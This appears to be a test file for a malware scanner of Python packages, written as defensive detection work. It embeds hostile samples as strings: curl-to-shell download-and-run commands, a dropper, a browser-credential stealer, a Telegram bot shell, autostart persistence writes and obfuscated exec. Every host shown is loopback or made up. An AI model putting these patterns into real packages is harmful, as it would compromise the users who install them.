"""Behaviour classes the scanner judges across statements, functions and files: commands
built in variables, decoders written by hand, droppers that write in one function and
run in another, stealers whose sending sits in a helper, hidden launches, fixed and
hidden destinations, autostart writes. Each on small crafted archives built in memory;
every host is loopback, reserved or made up."""

from __future__ import annotations

import base64
import io
import zipfile

from policies.scan.model import Severity
from tests.support.scan_archives import wheel
from tests.test_scan_rules import rules_of, sdist_rules, wheel_rules

FAKE_BOT_TOKEN = "1234567890:AA" + "x" * 33


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def test_a_wheel_is_known_by_its_wheel_member_not_its_name() -> None:
    code = "import subprocess\nsubprocess.Popen('curl -s http://127.0.0.1/x | sh', shell=True)\n"
    data = wheel({"demo/flag.py": code})
    for name in ("demo-1.0-py3-none-any.zip", "demo-1.0-py3-none-any.tar.gz"):
        assert rules_of(data, name)["download-exec"] == Severity.CRITICAL


def test_a_command_built_in_a_variable_is_judged() -> None:
    code = "import subprocess\ncmd = 'curl -s http://127.0.0.1/x' + ' | python3'\n"
    code += "subprocess.run(cmd, shell=True)\n"
    assert wheel_rules({"demo/__init__.py": code})["download-exec"] == Severity.CRITICAL


def test_a_hand_written_decoder_feeding_a_process() -> None:
    setup = (
        "import base64, os\nfrom setuptools import setup\n"
        "def d(text):\n    raw = base64.b64decode(text.encode())\n    return raw.decode()\n"
        f"os.system(d('{b64('echo hi')}'))\nsetup(name='demo')\n"
    )
    assert sdist_rules({"setup.py": setup})["obfuscated-exec"] == Severity.CRITICAL


def test_an_install_override_reaching_a_process_through_a_helper() -> None:
    setup = (
        "import subprocess\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "def helper():\n    subprocess.call(['true'])\n"
        "class Hook(install):\n    def run(self):\n        helper()\n        install.run(self)\n"
        "setup(name='demo', cmdclass={'install': Hook})\n"
    )
    assert sdist_rules({"setup.py": setup})["install-process"] == Severity.HIGH


def test_recon_commands_at_install_time() -> None:
    setup = "import os\nfrom setuptools import setup\nos.system('whoami')\nsetup(name='demo')\n"
    assert sdist_rules({"setup.py": setup})["recon-beacon"] == Severity.CRITICAL


def test_a_windowless_or_detached_launch_at_install_or_import() -> None:
    setup = (
        "import subprocess, sys\nfrom setuptools import setup\n"
        "subprocess.Popen([sys.executable.replace('.exe', 'w.exe'), 'payload.py'])\n"
        "setup(name='demo')\n"
    )
    assert sdist_rules({"setup.py": setup})["hidden-process"] == Severity.HIGH
    code = "import subprocess\nsubprocess.Popen(['prog'], creationflags=0x08000000)\n"
    assert wheel_rules({"demo/__init__.py": code})["hidden-process"] == Severity.HIGH


def test_a_library_hiding_its_own_helper_window_is_ordinary() -> None:
    code = (
        "import subprocess\n"
        "def run(args):\n"
        "    return subprocess.run(args, creationflags=subprocess.CREATE_NO_WINDOW)\n"
    )
    assert "hidden-process" not in wheel_rules({"demo/util.py": code})


def test_an_encoded_url_is_a_hidden_endpoint_wherever_it_sits() -> None:
    url = b64("http://127.0.0.2/upload")
    call = f"import base64, requests\ndef f():\n    requests.get(base64.b64decode('{url}'))\n"
    assert wheel_rules({"demo/x.py": call})["hidden-endpoint"] == Severity.HIGH
    default = f"def connect(address='{url}'):\n    return address\n"
    assert wheel_rules({"demo/x.py": default})["hidden-endpoint"] == Severity.HIGH


def test_a_callback_service_contacted_at_import_time() -> None:
    code = "import requests\nrequests.get('https://probe.oastify.com/init')\n"
    assert wheel_rules({"demo/__init__.py": code})["callback-endpoint"] == Severity.CRITICAL
    later = "import requests\ndef ping():\n    requests.get('https://probe.oastify.com/')\n"
    assert wheel_rules({"demo/x.py": later})["callback-endpoint"] == Severity.MEDIUM


def test_a_fixed_host_contacted_at_import_time() -> None:
    code = "import requests\nrequests.get('https://telemetry.example.org/hello')\n"
    assert wheel_rules({"demo/__init__.py": code})["import-network"] == Severity.HIGH
    dns = "import socket\ndef check():\n    socket.gethostbyname('probe.example.org')\ncheck()\n"
    assert wheel_rules({"demo/__init__.py": dns})["import-network"] == Severity.HIGH
    called = "import requests\ndef get(url):\n    return requests.get(url)\n"
    assert wheel_rules({"demo/__init__.py": called}) == {}


def test_a_dropper_that_writes_in_one_function_and_runs_in_another() -> None:
    code = (
        "import os, subprocess, threading, requests\n"
        "path = os.environ['APPDATA'] + '/tool.bin'\n"
        "def run():\n    subprocess.run(path, shell=True)\n"
        "def fetch():\n"
        "    data = requests.get('http://127.0.0.1/tool').content\n"
        "    with open(path, 'wb') as f:\n        f.write(data)\n"
        "fetch(); threading.Thread(target=run).start()\n"
    )
    assert wheel_rules({"demo/__init__.py": code})["download-exec"] == Severity.CRITICAL


def test_local_names_of_two_functions_are_not_one_file() -> None:
    code = (
        "import subprocess, requests\n"
        "def trim(src):\n    dest = src + '.out'\n    subprocess.run(['ffmpeg', src, dest])\n"
        "def fetch(url):\n    dest = 'video.mp4'\n"
        "    with open(dest, 'wb') as f:\n        f.write(requests.get(url).content)\n"
    )
    assert "download-exec" not in wheel_rules({"demo/media.py": code})


def test_a_thread_whose_target_is_a_process_function() -> None:
    code = (
        "import os, threading\n"
        "threading.Thread(target=os.system, args=('curl http://127.0.0.1/x | sh',)).start()\n"
    )
    assert wheel_rules({"demo/__init__.py": code})["download-exec"] == Severity.CRITICAL


def test_python_source_written_to_a_file_is_analysed() -> None:
    payload = "import urllib.request;exec(urllib.request.urlopen('http://127.0.0.1/').read())"
    code = (
        "import tempfile, os\n"
        "t = tempfile.NamedTemporaryFile(delete=False)\n"
        f"t.write(b{payload!r})\nt.close()\n"
    )
    assert "download-exec" in wheel_rules({"demo/__init__.py": code})


def test_a_stealer_whose_sending_sits_in_a_helper() -> None:
    code = (
        "import os, requests\n"
        "def paths():\n"
        "    return [os.getenv('LOCALAPPDATA') + '/Google/Chrome/User Data/Default/Login Data']\n"
        "def send(blob):\n    requests.post('http://127.0.0.1/', files={'f': blob})\n"
    )
    assert wheel_rules({"demo/grab.py": code})["exfiltration"] == Severity.HIGH
    alone = "STORE = 'Local Storage/leveldb'\n"
    assert wheel_rules({"demo/x.py": alone}) == {}  # no network token: not even parsed


def test_an_embedded_bot_token_next_to_host_collection() -> None:
    bot = (
        f"import subprocess, telebot\nbot = telebot.TeleBot('{FAKE_BOT_TOKEN}')\n"
        "def shell(cmd):\n    return subprocess.check_output(cmd, shell=True)\n"
    )
    assert wheel_rules({"demo/bot.py": bot})["exfiltration"] == Severity.HIGH
    alone = f"import telebot\nbot = telebot.TeleBot('{FAKE_BOT_TOKEN}')\n"
    assert wheel_rules({"demo/bot.py": alone})["embedded-channel"] == Severity.MEDIUM


def test_writes_into_autostart_locations() -> None:
    startup = (
        "import os\ndef install():\n"
        "    folder = os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs"
        "\\\\Startup'\n"
        "    with open(folder + '\\\\run.py', 'w') as f:\n        f.write('x')\n"
    )
    assert wheel_rules({"demo/x.py": startup})["persistence"] == Severity.HIGH
    rc = "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n"
    assert wheel_rules({"demo/__init__.py": rc})["persistence"] == Severity.CRITICAL
    temporary = (
        "import os, tempfile\nd = tempfile.mkdtemp()\n"
        "open(os.path.join(d, '.zshrc'), 'w').write('x')\n"
    )
    assert "persistence" not in wheel_rules({"demo/__init__.py": temporary})


def test_code_spelled_in_escapes_and_hand_written_ciphers() -> None:
    escaped = 'f = eval("\\x65\\x76\\x61\\x6c")\n'
    assert wheel_rules({"demo/__init__.py": escaped})["obfuscated-exec"] == Severity.CRITICAL
    cipher = (
        "data, key, out = 'abc', 'k', ''\n"
        "for i in range(len(data)):\n    out += chr(ord(data[i]) ^ ord(key[0]))\n"
        "exec(compile(out, '<s>', 'exec'))\n"
    )
    assert wheel_rules({"demo/__init__.py": cipher})["obfuscated-exec"] == Severity.CRITICAL


def test_builtins_reached_through_computed_sums() -> None:
    code = "f = getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-4])\n"
    assert "dynamic-builtins" in wheel_rules({"demo/__init__.py": code})


def test_a_module_that_does_not_parse_is_read_for_its_literals() -> None:
    code = (
        "import requests\n"
        "path = 'C:\\\\Users\\\\x\\\\AppData\\\\Roaming\\\\Exodus\\\\exodus.wallet'\n"
        "shot.save(r path)\n"  # a syntax error: the file never runs, but says what it is
        f"requests.post('https://api.telegram.org/bot{FAKE_BOT_TOKEN}/sendDocument')\n"
    )
    assert wheel_rules({"demo/steal.py": code})["exfiltration"] == Severity.HIGH


def test_top_level_modules_of_an_sdist() -> None:
    beacon = "import requests\nrequests.get('https://telemetry.example.org/')\n"
    # A module next to setup.py is what py_modules installs: it runs at import.
    assert sdist_rules({"single.py": beacon})["import-network"] == Severity.HIGH
    # Tooling next to setup.py (task runners, test configuration) runs when someone runs it.
    assert sdist_rules({"noxfile.py": beacon}) == {}


def test_directories_nothing_imports_from() -> None:
    code = "import requests\nrequests.get('https://telemetry.example.org/')\n"
    for folder in ("manual tests", ".github", "ci", "test_data"):
        assert sdist_rules({f"{folder}/fetch.py": code}) == {}, folder


def test_install_time_writes_through_a_variable() -> None:
    setup = (
        "import os\nfrom setuptools import setup\nroot = os.getenv('APPDATA')\n"
        "with open(root + '\\\\ext\\\\background.js', 'w+') as f:\n    f.write('x')\n"
        "setup(name='demo')\n"
    )
    assert sdist_rules({"setup.py": setup})["install-write"] == Severity.HIGH


def test_zip_sdist_with_a_wheel_inside_keeps_its_structure_finding() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("demo-1.0/PKG-INFO", "Name: demo\n")
        archive.writestr("demo-1.0/setup.py", "from setuptools import setup\nsetup()\n")
    found = rules_of(buffer.getvalue(), "demo-1.0.tar.gz")
    assert found == {"archive-type-mismatch": Severity.MEDIUM}
